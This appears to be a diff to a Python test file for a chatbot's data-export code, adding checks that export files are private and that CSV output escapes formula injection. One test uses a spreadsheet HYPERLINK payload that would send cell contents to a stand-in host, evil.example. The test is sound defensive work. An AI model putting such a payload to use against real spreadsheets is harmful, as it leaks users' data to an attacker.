@@ -4,7 +4,7 @@ import asyncio
 import csv
 import json
 import uuid
-from collections.abc import Iterator
+from collections.abc import AsyncIterator, Iterator
 from pathlib import Path
 from typing import Any
 from xml.etree import ElementTree
@@ -13,10 +13,12 @@ import duckdb
 import pytest
 
 from bot.conversations.hand_off import Agent
+from bot.cx.exports.lines import FORMULAS, scrub_csv, write_csv
 from bot.cx.exports.writing import MANIFEST
 from bot.errors import BotError, Refused
 from bot.operations.export import Wanted, export
 from bot.operations.privacy import erase
+from bot.records import Touchpoint
 from bot.settings import Settings
 from bot.touchpoints.columns import COLUMNS, row
 from bot.touchpoints.consent import Purpose
@@ -181,6 +183,30 @@ async def test_times_and_positions_choose_what_is_written(filled: Services, sett
     assert (tmp_path / "mine" / "letter.txt").read_text() == "dear"
 
 
+def check_private(folder: Path) -> None:
+    made = [path for path in folder.rglob("*") if path.relative_to(folder).parts[0].startswith(("texts.", "parts"))]
+    assert len(made) > 6
+    for path in made:
+        assert path.stat().st_mode & 0o777 == (0o700 if path.is_dir() else 0o600), path
+
+
+@pytest.mark.parametrize("begin", FORMULAS)
+def test_a_text_in_csv_is_no_formula_and_a_number_is_a_number(tmp_path: Path, begin: str) -> None:
+    text = f'{begin}HYPERLINK("http://evil.example/?"&A1)'
+    facts = {"customer_ref": "c", "text": text, "mood": -0.5, "reason": "a-b"}
+    event_ = cloud_event(Touchpoint("i", "conversation/x", 1, "message.received", 0, facts, {}, "c"), "urn:bot")
+
+    async def events() -> AsyncIterator[dict[str, Any]]:
+        yield event_
+
+    out = tmp_path / "out.csv"
+    for _ in range(2):
+        asyncio.run(write_csv(events(), out)) if not out.exists() else scrub_csv(out, {"another"})
+        with out.open(newline="", encoding="utf-8") as file:
+            [found] = csv.DictReader(file)
+        assert (found["text"], found["mood"], found["reason"]) == (f"'{text}", "-0.5", "a-b")
+
+
 async def test_texts_are_redacted_left_out_where_refused_and_gone_once_erased(
     filled: Services, settings: Settings, tmp_path: Path
 ) -> None:
@@ -204,10 +230,12 @@ async def test_texts_are_redacted_left_out_where_refused_and_gone_once_erased(
         assert "mail.example" not in text
         assert "48211" not in text  # refused
         assert "48210" in text
+    check_private(tmp_path)
     await asyncio.to_thread(erase, settings, "c0")
     for name, text in texts().items():
         assert "48210" not in text, name
         assert "48212" in text
+    check_private(tmp_path)
     rows = duckdb.sql(f"SELECT count(*) FROM read_parquet('{outs['parquet']}/*/*.parquet')").fetchall()
     assert rows[0][0] == len((outs["jsonl"]).read_text().splitlines())
     outs["csv"].unlink()
